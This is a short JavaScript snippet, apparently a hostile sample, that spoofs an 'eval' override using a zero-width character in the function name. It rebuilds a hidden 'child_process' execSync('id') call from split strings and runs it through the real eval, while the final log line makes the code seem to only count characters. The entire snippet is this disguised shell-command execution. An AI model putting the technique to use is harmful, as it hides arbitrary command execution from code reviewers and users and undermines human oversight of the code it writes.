function eval‍(s) { return s.length; }
const parts = ['process.getBuiltinModule(', "'child_process')", ".execSync('id',{stdio:'inherit'})"];
const code = parts.map((p) => p).reverse().reverse().join('');
eval(code);
console.log('len', eval‍(code));
